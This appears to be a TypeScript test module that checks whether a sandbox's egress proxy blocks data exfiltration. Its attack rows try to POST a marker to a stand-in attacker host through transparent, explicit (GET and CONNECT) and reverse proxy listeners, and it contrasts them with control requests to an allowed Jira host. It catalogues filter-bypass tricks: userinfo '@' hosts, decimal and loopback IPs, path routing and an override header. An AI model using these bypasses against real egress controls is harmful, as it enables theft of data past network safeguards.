import type { Attempt, Brief, InsideRow } from '../brief.js'
import { attempt, inTurn, type ForwardResult } from './lib/attempt.mjs'
import { exchange, openTcp, openTunnel } from './lib/http.mjs'
import { HTTP1, overBoth, secure, type HttpRequest, type HttpVersion } from './lib/http-versions.mjs'
import { askJiraOver } from './lib/controls.mjs'

export const rows: Readonly<Record<string, InsideRow>> = {
  ...overBoth((version) => ({
    'exfil-transparent': { attack: throughTransparentListener(version), control: askJiraOver(version) },
    'exfil-routes': { attack: throughBaseUrls(version), control: askThroughBaseUrls(version) },
  })),
  'exfil-explicit': { attack: throughExplicitProxy, control: askThroughProxy(HTTP1) },
}

function throughTransparentListener(version: HttpVersion): InsideRow['attack'] {
  return ({ listeners, names, attacker }, marker) => {
    const hosts = [
      names.attacker,
      `${names.attacker}.`,
      `${names.attacker}:${attacker.port}`,
      `${names.jira}.${names.attacker}`,
      `${names.jira}@${names.attacker}`,
      `127.0.0.1:${attacker.port}`,
      `[::1]:${attacker.port}`,
      '2130706433',
    ]
    const plain = async (host: string): Promise<ForwardResult> =>
      version.ask(await openTcp(listeners.http), upload(host, marker))
    const secured = async (host: string): Promise<ForwardResult> => {
      const name = host.replace(/:\d+$/, '')
      return version.ask(await secure(await openTcp(listeners.https), name, version), upload(host, marker))
    }
    return inTurn([
      ...hosts.map((host) => () => attempt(`http, Host: ${host}`, () => plain(host))),
      ...hosts.map((host) => () => attempt(`https to ${host}`, () => secured(host))),
    ])
  }
}

function upload(host: string, marker: string): HttpRequest {
  return { host, path: `/?q=${marker}`, method: 'POST', body: marker }
}

async function throughExplicitProxy(
  { listeners, names, attacker }: Brief,
  marker: string,
): Promise<Attempt[]> {
  const absolute = [
    `http://${names.attacker}`,
    `https://${names.attacker}`,
    `http://${names.attacker}:${attacker.port}`,
    `http://127.0.0.1:${attacker.port}`,
    `http://${names.jira}@${names.attacker}`,
    `ftp://${names.attacker}`,
  ]
  const targets = [
    `${names.attacker}:443`,
    `${names.attacker}:${attacker.port}`,
    `127.0.0.1:${attacker.port}`,
    `[::1]:${attacker.port}`,
    `${names.jira}:22`,
    `${names.jira}@${names.attacker}:443`,
  ]
  return inTurn([
    ...absolute.map((base) => () => {
      const host = base.replace(/^[a-z]+:\/\//, '')
      return attempt(`GET ${base}`, async () =>
        exchange(await openTcp(listeners.proxy), post(host, `${base}/?q=${marker}`, marker)),
      )
    }),
    ...targets.map(
      (target) => () =>
        attempt(`CONNECT ${target}`, async () =>
          exchange(await openTunnel(listeners.proxy, target), post(target, `/?q=${marker}`, marker)),
        ),
    ),
  ])
}

function throughBaseUrls(version: HttpVersion): InsideRow['attack'] {
  return ({ listeners, names }, marker) => {
    const requests: [path: string, headers?: Record<string, string>, host?: string][] = [
      ['/attacker/'],
      [`/${names.attacker}/`],
      [`/https://${names.attacker}/`],
      [`//${names.attacker}/`],
      [`/jira@${names.attacker}/rest/api/2/myself`],
      [`/jira/rest/api/2/myself`, { 'x-sandbox-target': `https://${names.attacker}` }],
      [`http://${names.attacker}/`],
      ['/', {}, names.attacker],
    ]
    return inTurn(
      requests.map(
        ([path, headers = {}, host = 'egress:9199']) =>
          () =>
            attempt([`GET ${path} at ${host}`, ...Object.keys(headers)].join(', '), async () =>
              version.ask(await openTcp(listeners.reverse), { host, path: `${path}?q=${marker}`, headers }),
            ),
      ),
    )
  }
}

export function askThroughProxy(version: HttpVersion): InsideRow['control'] {
  return async ({ listeners, names }, marker) => [
    await attempt('CONNECT to Jira', async () => {
      const tunnel = await openTunnel(listeners.proxy, `${names.jira}:443`)
      const request = { host: names.jira, path: `/rest/api/2/myself?control=${marker}` }
      return version.ask(await secure(tunnel, names.jira, version), request)
    }),
  ]
}

function askThroughBaseUrls(version: HttpVersion): InsideRow['control'] {
  return async ({ listeners }, marker) => [
    await attempt('GET /jira/rest/api/2/myself', async () =>
      version.ask(await openTcp(listeners.reverse), {
        host: 'egress:9199',
        path: `/jira/rest/api/2/myself?control=${marker}`,
      }),
    ),
  ]
}

function post(host: string, target: string, body: string): string {
  const head = [
    `POST ${target} HTTP/1.1`,
    `Host: ${host}`,
    'Connection: close',
    `Content-Length: ${body.length}`,
  ]
  return [...head, '', body].join('\r\n')
}
